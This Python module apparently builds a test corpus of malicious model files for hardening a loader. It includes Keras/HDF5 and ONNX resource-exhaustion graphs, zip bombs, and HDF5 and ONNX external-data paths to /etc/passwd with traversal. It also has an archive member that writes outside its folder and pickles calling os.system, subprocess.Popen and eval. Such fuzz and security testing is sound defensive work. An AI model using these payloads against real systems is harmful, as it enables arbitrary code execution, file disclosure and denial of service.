"""Files made to do harm, each by a function named after its attack; `make` writes them all."""

import io
import json
import struct
import zipfile
import zlib

import h5py
import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

ATTACKS = []


def attack(ending):
    """Registers a function that gives the bytes of a file with this ending."""

    def register(function):
        ATTACKS.append((function.__name__, ending, function))
        return function

    return register


def make(folder, names=None):
    """Writes the files, or those with these names, into `folder` and gives their names and paths."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, ending, function in ATTACKS:
        if names and name not in names:
            continue
        path = folder / (name + ending)
        path.write_bytes(function())
        yield name, path


# Keras.


def layer(kind, name, **settings):
    return {"class_name": kind, "config": {"name": name, **settings}}


def sequential(*layers, shape=(None, 4, 3)):
    first = {"class_name": "InputLayer", "config": {"name": "input", "batch_input_shape": list(shape)}}
    return {"class_name": "Sequential", "config": {"name": "model", "layers": [first, *layers]}}


def keras_h5(config, weights=None):
    """A Keras file with `weights` by layer, each a list of arrays."""
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        file.attrs["model_config"] = config if isinstance(config, (str, bytes)) else json.dumps(config)
        file.attrs["keras_version"] = "2.4.0"
        file.attrs["backend"] = "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([name.encode() for name in weights or {"none": []}])
        for name, arrays in (weights or {"none": []}).items():
            inner = group.create_group(name)
            names = [f"{name}/w{i}:0".encode() for i in range(len(arrays))]
            inner.attrs["weight_names"] = np.array(names, dtype="S32")
            for key, array in zip(names, arrays):
                inner.create_dataset(key.decode(), **array) if isinstance(array, dict) else inner.create_dataset(
                    key.decode(), data=array)
    return memory.getvalue()


def one_layer(kind, shape=(None, 4, 3), **settings):
    return lambda: keras_h5(sequential(layer(kind, "layer", **settings), shape=shape))


HUGE = 10**9
for number, (kind, shape, settings) in enumerate([
    ("LSTM", (None, 4, 3), {"units": 10**12}),
    ("Dense", (None, 4, 3), {"units": 2**62}),
    ("Embedding", (None, 4), {"input_dim": 10**12, "output_dim": 10**6}),
    ("RepeatVector", (None, 4), {"n": HUGE}),
    ("UpSampling1D", (None, 4, 3), {"size": HUGE}),
    ("ZeroPadding1D", (None, 4, 3), {"padding": [HUGE, HUGE]}),
    ("Cropping1D", (None, 4, 3), {"cropping": [HUGE, 2**62]}),
    ("MaxPooling1D", (None, 4, 3), {"pool_size": HUGE, "strides": 1, "padding": "same"}),
    ("AveragePooling1D", (None, HUGE, 3), {"pool_size": 2, "strides": 1, "padding": "same"}),
    ("Reshape", (None, 4, 3), {"target_shape": [2**62, 2**62, 12]}),
    ("Activation", (None, HUGE, 3), {"activation": "tanh"}),
    ("Activation", (None, 2**40, 2**40), {"activation": "relu"}),
    ("Activation", (2**40, 3), {"activation": "softmax"}),
    ("Permute", (None, 4, 3), {"dims": [2**62, -1]}),
    ("Activation", (None, 30_000_000), {"activation": "softmax"}),
    ("LSTM", (None, 30_000_000, 1), {"units": 1}),
]):
    ATTACKS.append((f"huge_setting_{number}_{kind}", ".h5", one_layer(kind, shape, **settings)))


@attack(".h5")
def long_recurrence():
    """Weights that fit, and more steps than anybody waits for."""
    weights = [np.zeros((64, 1024), "float32"), np.zeros((256, 1024), "float32"), np.zeros(1024, "float32")]
    return keras_h5(
        sequential(layer("LSTM", "layer", units=256, activation="tanh", recurrent_activation="sigmoid"),
                   shape=(None, 1_000_000, 64)), {"layer": weights})


@attack(".h5")
def doubling():
    """Each layer doubles the values of the one before."""
    layers = [layer("UpSampling1D", f"up{i}", size=2) for i in range(40)]
    return keras_h5(sequential(*layers))


@attack(".h5")
def doubling_to_the_limit():
    return keras_h5(sequential(*[layer("UpSampling1D", f"up{i}", size=2) for i in range(20)], shape=(None, 16, 3)))


@attack(".h5")
def wide_convolution():
    """A small kernel over a picture that padding makes large."""
    kernel = np.zeros((3, 3, 1, 64), "float32")
    return keras_h5(
        sequential(layer("ZeroPadding2D", "pad", padding=[[3000, 3000], [3000, 3000]]),
                   layer("Conv2D", "layer", filters=64, kernel_size=[3, 3], use_bias=False), shape=(None, 4, 4, 1)),
        {"layer": [kernel]})


@attack(".h5")
def deep_configuration():
    return keras_h5('{"class_name": "Sequential", "config": ' + '{"layers": [' * 20_000 + "]}" * 20_000 + "}")


@attack(".h5")
def nested_models():
    config = sequential(layer("Flatten", "flatten"))
    for i in range(300):
        config = {"class_name": "Sequential", "config": {"name": f"m{i}", "layers": [config]}}
    return keras_h5(config)


@attack(".h5")
def nested_wrappers():
    inner = json.dumps(layer("Dense", "dense", units=3))
    for i in range(800):
        inner = f'{{"class_name": "TimeDistributed", "config": {{"name": "w{i}", "layer": {inner}}}}}'
    return keras_h5(json.dumps(sequential("INNER")).replace('"INNER"', inner))


@attack(".h5")
def model_that_contains_itself():
    """Two layers, each of which waits for the other."""
    def node(name, inbound):
        return {"class_name": "Add", "name": name, "config": {"name": name},
                "inbound_nodes": [[[other, 0, 0, {}] for other in inbound]]}
    first = {"class_name": "InputLayer", "name": "input", "config": {"name": "input", "batch_input_shape": [None, 3]},
             "inbound_nodes": []}
    return keras_h5({"class_name": "Functional", "config": {
        "name": "model", "layers": [first, node("a", ["input", "b"]), node("b", ["input", "a"])],
        "input_layers": [["input", 0, 0]], "output_layers": [["b", 0, 0]]}})


@attack(".h5")
def mask_through_thousands_of_layers():
    """The name lets Ferry look for the mask that the last layer is given."""
    return keras_h5(sequential(
        layer("Masking", "any", batch_input_shape=[None, 3, 2]),
        *[layer("Activation", f"a{i}", activation="tanh") for i in range(9000)], layer("GlobalAveragePooling1D", "mean")))


@attack(".h5")
def thousands_of_layers():
    return keras_h5(sequential(*[layer("Activation", f"a{i}", activation="tanh") for i in range(20_000)]))


@attack(".h5")
def python_code():
    return keras_h5(sequential(layer("Lambda", "code", function=["4wEAAAA=", None, None], function_type="lambda")))


@attack(".h5")
def numbers_beyond_reason():
    return keras_h5('{"class_name": "Sequential", "config": {"name": "m", "layers": [' + "9" * 1_000_000 + "]}}")


# HDF5.


def packed_zeros_file(count, chunk_count, side):
    """Arrays of zeros in deflated chunks [side, side]."""
    memory = io.BytesIO()
    packed = zlib.compress(bytes(4 * side * side), 9)
    with h5py.File(memory, "w") as file:
        file.attrs["model_config"] = json.dumps(sequential(layer("Dense", "layer", units=3)))
        for i in range(count):
            data = file.create_dataset(f"model_weights/layer/w{i}", (chunk_count * side, side), "float32",
                                       chunks=(side, side), compression=9)
            for j in range(chunk_count):
                data.id.write_direct_chunk((j * side, 0), packed)
    return memory.getvalue()


@attack(".h5")
def packed_zeros():
    return packed_zeros_file(1, 200, 1000)


@attack(".h5")
def packed_zeros_to_the_limit():
    return packed_zeros_file(1, 64, 1000)


@attack(".h5")
def packed_zeros_in_many_arrays():
    return packed_zeros_file(40, 1, 4000)


@attack(".h5")
def unwritten_array():
    """No chunk is there, so that all of it is the fill value."""
    array = {"shape": (2**16, 2**16), "dtype": "float32", "chunks": (1024, 1024), "fillvalue": 3}
    return keras_h5(sequential(layer("Dense", "layer", units=3)), {"layer": [array, array]})


@attack(".h5")
def group_in_itself():
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        group = file.create_group("model_weights")
        group["again"] = file["/"]
        file.attrs["model_config"] = json.dumps(sequential(layer("Dense", "layer", units=3)))
    return memory.getvalue()


@attack(".h5")
def paths_without_number():
    """Thirty groups, each of which holds the next one twice: 2^30 paths."""
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        group = file.create_group("model_weights")
        file.attrs["model_config"] = json.dumps(sequential(layer("Dense", "layer", units=3)))
        for _ in range(30):
            inner = group.create_group("a")
            group["b"] = inner
            group = inner
    return memory.getvalue()


@attack(".h5")
def links_out_of_the_file():
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        file.attrs["model_config"] = json.dumps(sequential(layer("Dense", "layer", units=3)))
        file["model_weights"] = h5py.ExternalLink("/etc/passwd", "/")
    return memory.getvalue()


@attack(".h5")
def only_the_library_reads_this():
    """A filter that is left to libhdf5 in its child."""
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        file.create_dataset("a", data=np.arange(1000, dtype="int32"), chunks=(100,), scaleoffset=0)
    return memory.getvalue()


# ONNX.


def onnx_file(nodes, initializers=(), inputs=(), outputs=("y",), opset=17):
    values = [helper.make_tensor_value_info(name, TensorProto.FLOAT, None) for name in outputs]
    graph = helper.make_graph(list(nodes), "g", list(inputs), values, list(initializers))
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", opset)], ir_version=8)
    return model.SerializeToString()


def constant(name, values, dtype="int64"):
    return numpy_helper.from_array(np.array(values, dtype), name)


def input_x(*shape):
    return helper.make_tensor_value_info("x", TensorProto.FLOAT, list(shape))


def filled(output, shape, **attributes):
    """Nodes and initializers of a tensor of any shape."""
    return (helper.make_node("ConstantOfShape", [output + "_shape"], [output], **attributes),
            constant(output + "_shape", shape))


def many_filled(shape, count, operator="Add"):
    nodes, initializers = [], []
    for i in range(count):
        node, shape_tensor = filled(f"c{i}", shape)
        nodes.append(node)
        initializers.append(shape_tensor)
    nodes.append(helper.make_node("Sum" if operator == "Sum" else "Concat", [f"c{i}" for i in range(count)], ["y"],
                                  **({} if operator == "Sum" else {"axis": 0})))
    return onnx_file(nodes, initializers)


@attack(".onnx")
def many_large_constants():
    return many_filled([1 << 27], 20, "Sum")


@attack(".onnx")
def large_constants_joined():
    return many_filled([1 << 24], 200)


@attack(".onnx")
def large_constants_kept():
    """Each is an output, so that none may be forgotten."""
    nodes, initializers = zip(*[filled(f"c{i}", [1 << 27]) for i in range(20)])
    return onnx_file(nodes, initializers, outputs=[f"c{i}" for i in range(20)])


@attack(".onnx")
def large_values_kept():
    """As above, but from an input, so that nothing can be computed beforehand."""
    nodes = [helper.make_node("Expand", ["x", "shape"], [f"y{i}"]) for i in range(20)]
    return onnx_file(nodes, [constant("shape", [1 << 20, 100])], [input_x(1, 1)], [f"y{i}" for i in range(20)])


@attack(".onnx")
def large_values_summed():
    nodes = [helper.make_node("Expand", ["x", "shape"], [f"c{i}"]) for i in range(20)]
    nodes.append(helper.make_node("Sum", [f"c{i}" for i in range(20)], ["y"]))
    return onnx_file(nodes, [constant("shape", [1 << 20, 100])], [input_x(1, 1)])


@attack(".onnx")
def doubled_values():
    nodes = [helper.make_node("Concat", ["x", "x"], ["v0"], axis=0)]
    nodes += [helper.make_node("Concat", [f"v{i}", f"v{i}"], [f"v{i + 1}"], axis=0) for i in range(40)]
    return onnx_file(nodes, [], [input_x(1, 1)], ["v40"])


@attack(".onnx")
def doubled_constants():
    nodes = [helper.make_node("Concat", ["k", "k"], ["v0"], axis=0)]
    nodes += [helper.make_node("Concat", [f"v{i}", f"v{i}"], [f"v{i + 1}"], axis=0) for i in range(40)]
    return onnx_file(nodes, [constant("k", [1.0], "float32")], [], ["v40"])


def product(n, shape_of_result):
    (left, left_shape), (right, right_shape) = filled("a", [n, n]), filled("b", [n, n])
    nodes = [left, right, helper.make_node("MatMul", ["a", "b"], ["c"]),
             helper.make_node("ReduceSum", ["c"], ["y"], keepdims=0)]
    return onnx_file(nodes, [left_shape, right_shape], opset=13)


@attack(".onnx")
def large_product():
    """2^39 multiplications from a file of a few hundred bytes."""
    return product(8192, [])


@attack(".onnx")
def large_product_of_inputs():
    nodes = [helper.make_node("Expand", ["x", "shape"], ["a"]), helper.make_node("MatMul", ["a", "a"], ["y"])]
    return onnx_file(nodes, [constant("shape", [11_000, 11_000])], [input_x(1, 1)])


@attack(".onnx")
def many_products():
    nodes = [helper.make_node("Expand", ["x", "shape"], ["v0"])]
    nodes += [helper.make_node("MatMul", [f"v{i}", f"v{i}"], [f"v{i + 1}"]) for i in range(200)]
    return onnx_file(nodes, [constant("shape", [3000, 3000])], [input_x(1, 1)], ["v200"])


def loop(trips, body_nodes, inputs=("i", "go", "v"), outputs=("go_out", "v_out"), initializers=(), scan=()):
    body = helper.make_graph(
        [helper.make_node("Identity", ["go"], ["go_out"]), *body_nodes], "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("go", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v", TensorProto.FLOAT, None)],
        [helper.make_tensor_value_info("go_out", TensorProto.BOOL, [])]
        + [helper.make_tensor_value_info(name, TensorProto.FLOAT, None) for name in outputs[1:] + tuple(scan)],
        list(initializers))
    return helper.make_node("Loop", ["trips" if trips else "", "", "x"], ["y", *(f"s{i}" for i in range(len(scan)))],
                            body=body)


def loop_file(trips, body_nodes, **options):
    return onnx_file([loop(trips, body_nodes, **options)], [constant("trips", trips)] if trips else [], [input_x(2, 2)])


@attack(".onnx")
def loop_forever():
    return loop_file(None, [helper.make_node("Tanh", ["v"], ["v_out"])])


@attack(".onnx")
def loop_for_ages():
    return loop_file(2**63 - 1, [helper.make_node("Tanh", ["v"], ["v_out"])])


@attack(".onnx")
def loop_that_grows():
    return loop_file(None, [helper.make_node("Concat", ["v", "v"], ["v_out"], axis=0)])


@attack(".onnx")
def loop_that_collects():
    """Every round leaves a part of the result behind."""
    body = [helper.make_node("Identity", ["v"], ["v_out"]), helper.make_node("Expand", ["v", "wide"], ["s"])]
    return loop_file(60_000, body, scan=("s",), initializers=[constant("wide", [1000, 2, 2])])


@attack(".onnx")
def loop_of_large_products():
    body = [helper.make_node("Expand", ["one", "wide"], ["w"]), helper.make_node("MatMul", ["w", "w"], ["p"]),
            helper.make_node("ReduceMax", ["p"], ["m"], keepdims=0), helper.make_node("Add", ["v", "m"], ["v_out"])]
    return loop_file(60_000, body, initializers=[constant("wide", [1000, 1000]), constant("one", [[0.0]], "float32")])


@attack(".onnx")
def loops_in_loops():
    inner = [helper.make_node("Tanh", ["v"], ["v_out"])]
    for _ in range(5):
        node = loop(True, inner)
        node.input[2], node.output[0] = "v", "v_out"
        inner = [node]
    return onnx_file([loop(True, inner)], [constant("trips", 1000)], [input_x(2, 2)])


def convolution(shape, kernel, **attributes):
    nodes = [helper.make_node("Conv", ["x", "w"], ["y"], **attributes)]
    return onnx_file(nodes, [constant("w", np.zeros(kernel), "float32")], [input_x(*shape)])


@attack(".onnx")
def convolution_with_endless_padding():
    return convolution((1, 1, 4, 4), (1, 1, 3, 3), pads=[2**40] * 4)


@attack(".onnx")
def convolution_with_large_padding():
    return convolution((1, 1, 4, 4), (8, 1, 3, 3), pads=[1800] * 4)


@attack(".onnx")
def convolution_with_slow_padding():
    return convolution((1, 64, 4, 4), (64, 64, 3, 3), pads=[700] * 4)


@attack(".onnx")
def convolution_with_large_dilation():
    return convolution((1, 1, 4, 4), (1, 1, 3, 3), pads=[1 << 30] * 4, dilations=[1 << 30] * 2)


@attack(".onnx")
def convolution_without_stride():
    return convolution((1, 1, 4, 4), (1, 1, 3, 3), strides=[0, -1])


@attack(".onnx")
def pooling_with_large_kernel():
    return onnx_file([helper.make_node("AveragePool", ["x"], ["y"], kernel_shape=[6000, 6000], pads=[5999] * 4)], [],
                     [input_x(1, 1, 4, 4)])


@attack(".onnx")
def padding_without_end():
    return onnx_file([helper.make_node("Pad", ["x", "pads"], ["y"])], [constant("pads", [0, 0, 2**62, 2**62])],
                     [input_x(2, 2)])


@attack(".onnx")
def range_without_end():
    return onnx_file([helper.make_node("Range", ["a", "b", "c"], ["y"])],
                     [constant("a", 0.0, "float32"), constant("b", 3e38, "float32"), constant("c", 1e-38, "float32")])


@attack(".onnx")
def tile_without_end():
    return onnx_file([helper.make_node("Tile", ["x", "n"], ["y"])], [constant("n", [2**40, 2**40])], [input_x(2, 2)])


@attack(".onnx")
def one_hot_without_end():
    return onnx_file([helper.make_node("OneHot", ["i", "depth", "values"], ["y"])],
                     [constant("i", [1, 2]), constant("depth", 2**40), constant("values", [0.0, 1.0], "float32")])


@attack(".onnx")
def resize_without_end():
    return onnx_file([helper.make_node("Resize", ["x", "", "scales"], ["y"])],
                     [constant("scales", [1, 1, 1e6, 1e6], "float32")], [input_x(1, 1, 4, 4)])


@attack(".onnx")
def lstm_with_long_sequence():
    weights = [constant("w", np.zeros((1, 512, 8)), "float32"), constant("r", np.zeros((1, 512, 128)), "float32"),
               constant("shape", [10_000_000, 1, 8])]
    nodes = [helper.make_node("Expand", ["x", "shape"], ["long"]),
             helper.make_node("LSTM", ["long", "w", "r"], ["", "y"], hidden_size=128)]
    return onnx_file(nodes, weights, [input_x(1, 1, 1)])


def chain(count, node):
    return onnx_file([node(i) for i in range(count)], [constant("k", np.ones((3, 3)), "float32"), constant("a", [0])],
                     [input_x(3, 3)], [f"v{count}"])


def name(i):
    return f"v{i}" if i else "x"


@attack(".onnx")
def long_chain_of_activations():
    return chain(20_000, lambda i: helper.make_node("Tanh", [name(i)], [f"v{i + 1}"]))


@attack(".onnx")
def long_chain_of_sums():
    return chain(20_000, lambda i: helper.make_node("Add", [name(i), "k"], [f"v{i + 1}"]))


@attack(".onnx")
def long_chain_of_products():
    return chain(10_000, lambda i: helper.make_node("MatMul", [name(i), "k"], [f"v{i + 1}"]))


@attack(".onnx")
def long_chain_of_moves():
    return chain(20_000, lambda i: helper.make_node("Transpose", [name(i)], [f"v{i + 1}"], perm=[1, 0]))


@attack(".onnx")
def long_chain_of_axes():
    return chain(10_000, lambda i: helper.make_node("Unsqueeze" if i % 2 == 0 else "Squeeze", [name(i), "a"],
                                                    [f"v{i + 1}"]))


@attack(".onnx")
def many_uses_of_a_value():
    """2^60 ways from the input to the output."""
    return chain(60, lambda i: helper.make_node("Add", [name(i), name(i)], [f"v{i + 1}"]))


@attack(".onnx")
def axes_without_number():
    return onnx_file([helper.make_node("Unsqueeze", ["x", "a"], ["y"])], [constant("a", np.arange(5000))],
                     [input_x(2, 2)])


@attack(".onnx")
def graph_in_itself():
    return onnx_file([helper.make_node("Add", ["x", "b"], ["a"]), helper.make_node("Add", ["x", "a"], ["b"])], [],
                     [input_x(2, 2)], ["b"])


@attack(".onnx")
def branches_in_branches():
    def graph(depth):
        nodes = [helper.make_node("Tanh", ["x"], [f"o{depth}"])]
        if depth:
            nodes = [helper.make_node("If", ["c"], [f"o{depth}"], then_branch=graph(depth - 1),
                                      else_branch=helper.make_graph(
                                          [helper.make_node("Tanh", ["x"], [f"e{depth}"])], "e", [],
                                          [helper.make_tensor_value_info(f"e{depth}", TensorProto.FLOAT, None)]))]
        return helper.make_graph(nodes, "g", [], [helper.make_tensor_value_info(f"o{depth}", TensorProto.FLOAT, None)])
    return onnx_file(list(graph(28).node), [constant("c", True, "bool")], [input_x(2, 2)], ["o28"])


def external(location, count=1, offset=None, length=None):
    initializers = []
    for i in range(count):
        tensor = TensorProto(name=f"w{i}", data_type=TensorProto.FLOAT, dims=[8], data_location=TensorProto.EXTERNAL)
        for key, value in [("location", location), ("offset", offset), ("length", length)]:
            if value is not None:
                entry = tensor.external_data.add()
                entry.key, entry.value = key, str(value)
        initializers.append(tensor)
    return onnx_file([helper.make_node("Add", ["x", "w0"], ["y"])], initializers, [input_x(2, 8)])


for number, location in enumerate([
    "/etc/passwd", "../../../../etc/passwd", "a/../../../../../etc/passwd", "/dev/zero", "/proc/self/mem", "", ".", "..",
    "a\\..\\..\\b", "file:///etc/passwd", "x" * 5000, "missing.bin",
]):
    ATTACKS.append((f"external_data_{number}", ".onnx", lambda location=location: external(location)))
for number, (offset, length) in enumerate([(2**63, 32), (-1, 32), (0, 2**62), (2**63 - 1, 2**63 - 1), ("x", "y")]):
    ATTACKS.append((f"external_extent_{number}", ".onnx", lambda o=offset, n=length: external(
        f"external_extent_{0}.onnx", offset=o, length=n)))


@attack(".onnx")
def external_data_in_itself_many_times():
    """A thousand initializers, each of which is all of a file of 4 MB."""
    tensors = []
    for i in range(1000):
        tensor = TensorProto(name=f"w{i}", data_type=TensorProto.FLOAT, dims=[1_000_000],
                             data_location=TensorProto.EXTERNAL)
        entry = tensor.external_data.add()
        entry.key, entry.value = "location", "external_data_in_itself_many_times.onnx"
        tensors.append(tensor)
    tensors.append(constant("padding", np.zeros(1_000_000), "float32"))
    return onnx_file([helper.make_node("Sum", [f"w{i}" for i in range(1000)], ["y"])], tensors)


@attack(".onnx")
def dense_from_sparse():
    node = helper.make_node("Constant", [], ["y"], sparse_value=helper.make_sparse_tensor(
        helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0]), helper.make_tensor("i", TensorProto.INT64, [1], [0]),
        [2**40]))
    return onnx_file([node])


@attack(".onnx")
def einsum_without_end():
    letters = "abcdefghijklmnopqrstuvwxyz"
    return onnx_file([helper.make_node("Einsum", ["k"] * 13, ["y"], equation=",".join(
        letters[2 * i : 2 * i + 2] for i in range(13)) + "->" + letters)], [constant("k", np.ones((9, 9)), "float32")])


# Archives.


def archive(members, compression=zipfile.ZIP_DEFLATED):
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", compression, compresslevel=9) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return memory.getvalue()


def keras_archive(config, **members):
    return archive({"metadata.json": '{"keras_version": "3.0.0", "date_saved": "2024-01-01@00:00:00"}',
                    "config.json": config, **members})


@attack(".keras")
def zip_bomb():
    return keras_archive("{}", **{"model.weights.h5": bytes(600 << 20)})


@attack(".keras")
def zip_bomb_of_configuration():
    return keras_archive(b" " * (300 << 20) + b"{}")


@attack(".keras")
def zip_bomb_of_brackets():
    return keras_archive(b"[" * (60 << 20))


@attack(".keras")
def zip_bomb_of_lists():
    """JSON takes far more memory than its text."""
    return keras_archive(b"[" + b"[]," * (20 << 20) + b"0]")


@attack(".keras")
def many_members():
    return archive({f"m{i}": b"" for i in range(60_000)}, zipfile.ZIP_STORED)


@attack(".keras")
def members_that_share_their_bytes():
    """A hundred entries of the directory lead to one member."""
    content = archive({"config.json": bytes(60 << 20)})
    end = content.rindex(b"PK\5\6")
    start = struct.unpack_from("<I", content, end + 16)[0]
    entry = content[start:end]
    entries = b"".join(entry.replace(b"config.json", b"config%04d" % i) for i in range(100))
    tail = bytearray(content[end:])
    struct.pack_into("<HHI", tail, 8, 100, 100, len(entries))
    return content[:start] + entries + bytes(tail)


@attack(".keras")
def members_that_lead_out():
    return archive({"../../../tmp/config.json": "{}", "metadata.json": "{}"})


@attack(".keras")
def encrypted_or_unknown_member():
    content = bytearray(keras_archive("{}"))
    start = content.index(b"PK\1\2")
    content[start + 8] |= 1
    return bytes(content)


@attack(".npy")
def shape_beyond_the_file():
    return npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4611686018427387904, 8)}")


@attack(".npy")
def header_without_end():
    return b"\x93NUMPY\x02\x00" + struct.pack("<I", 2**32 - 1) + b"{" * 1000


@attack(".npy")
def header_of_brackets():
    return npy("(" * 50_000)


@attack(".npy")
def pickled_objects():
    memory = io.BytesIO()
    np.save(memory, np.array([{1: 2}], dtype=object), allow_pickle=True)
    return memory.getvalue()


@attack(".npy")
def empty_axes():
    return npy("{'descr': '<f4', 'fortran_order': False, 'shape': (0, 4611686018427387904)}")


def npy(header):
    text = header.encode().ljust(64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", min(len(text), 65535)) + text[:65535]


# safetensors.


def safetensors(header, data=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def tensor(shape, begin, end, dtype="F32"):
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


for number, header in enumerate([
    {"a": tensor([2**62, 4], 0, 16)},
    {"a": tensor([4], 0, 2**63)},
    {"a": tensor([4], 16, 0)},
    {"a": tensor([4], -16, 0)},
    {f"t{i}": tensor([1000], 0, 4000) for i in range(20_000)},
    {"__metadata__": {"a": {"b": 1}}},
    {"a": tensor([0, 2**62], 0, 0)},
    {"a": tensor([1] * 100_000, 0, 4)},
]):
    ATTACKS.append((f"safetensors_header_{number}", ".safetensors", lambda h=header: safetensors(h, bytes(4000))))


@attack(".safetensors")
def safetensors_deep_header():
    return safetensors(b'{"a":' * 100_000)


@attack(".safetensors")
def safetensors_huge_header():
    return struct.pack("<Q", 2**62) + b"{}"


# Pickles.


def torch_file(pickle, storages=None):
    members = {"archive/data.pkl": pickle, "archive/version": b"3\n", "archive/byteorder": b"little"}
    members.update({f"archive/data/{key}": value for key, value in (storages or {"0": bytes(64)}).items()})
    return archive(members, zipfile.ZIP_STORED)


def call(module, function, argument):
    return b"\x80\x02c" + f"{module}\n{function}\n".encode() + b"X" + struct.pack("<I", len(argument)) + argument + b"\x85R."


for number, (module, function) in enumerate([
    ("os", "system"), ("posix", "system"), ("builtins", "eval"), ("subprocess", "Popen"), ("torch.hub", "load"),
    ("torch", "load"), ("torch.serialization", "load"), ("collections", "Counter"), ("numpy", "load"),
]):
    ATTACKS.append((f"pickle_that_calls_{number}", ".pt", lambda m=module, f=function: torch_file(
        call(m, f, b"touch hacked"))))
    ATTACKS.append((f"legacy_pickle_that_calls_{number}", ".pt", lambda m=module, f=function: b"\x80\x02" + call(
        m, f, b"touch hacked")[2:]))


def tensors(count, size, stride, storage_size, storage=b""):
    """A state dict of `count` tensors that look at one storage."""
    pickle = b"\x80\x02}q\x00("
    for i in range(count):
        key = f"w{i}".encode()
        pickle += b"X" + struct.pack("<I", len(key)) + key
        pickle += b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\n"
        pickle += b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpu" + long(storage_size) + b"tQK\x00"
        pickle += b"(" + b"".join(map(long, size)) + b"t(" + b"".join(map(long, stride)) + b"t\x89)tR"
    return torch_file(pickle + b"u.", {"0": storage})


def long(value):
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


@attack(".pt")
def tensor_beyond_its_storage():
    return tensors(1, [2**31, 2**31], [2**31, 1], 16, bytes(64))


@attack(".pt")
def tensor_with_stride_zero():
    return tensors(1, [100_000, 100_000], [0, 0], 16, bytes(64))


@attack(".pt")
def tensors_that_share_a_storage():
    return tensors(2000, [1_000_000], [1], 1_000_000, bytes(4_000_000))


@attack(".pt")
def tensors_with_overlapping_rows():
    return tensors(1, [1_000_000, 1000], [0, 1], 1000, bytes(4000))


@attack(".pt")
def tensor_with_negative_stride():
    return tensors(1, [4, 4], [-4, 1], 16, bytes(64))


@attack(".pt")
def pickle_of_brackets():
    return torch_file(b"\x80\x02" + b"]" * 1_000_000 + b"." )


@attack(".pt")
def pickle_of_tuples():
    return torch_file(b"\x80\x02)" + b"\x85" * 200_000 + b".")


@attack(".pt")
def pickle_that_doubles():
    """Each tuple holds the one before twice: 2^200 things to print."""
    return torch_file(b"\x80\x02)" + b"2\x86" * 200 + b".")


@attack(".pt")
def pickle_memo_without_end():
    return torch_file(b"\x80\x02" + b"".join(b"Nr" + struct.pack("<I", 2**32 - 1 - i) + b"0" for i in range(1000)) + b"N.")


@attack(".pt")
def pickle_of_a_long_text():
    return torch_file(b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"x.")


@attack(".pt")
def pickle_without_end():
    return torch_file(b"\x80\x02}")


@attack(".pt")
def pickle_of_marks():
    return torch_file(b"\x80\x02" + b"(" * 2_000_000 + b"t" * 2_000_000 + b".")


@attack(".pt")
def pickle_that_grows_a_list():
    return torch_file(b"\x80\x02]q\x00" + b"h\x00a" * 500_000 + b".")


@attack(".pt")
def pickle_of_long_numbers():
    return torch_file(b"\x80\x02\x8b" + struct.pack("<I", 2**31 - 1) + b"\xff" * 1000 + b".")


@attack(".pt")
def pickle_of_a_long_decimal():
    return torch_file(b"\x80\x02L" + b"9" * 1_000_000 + b"L\n.")
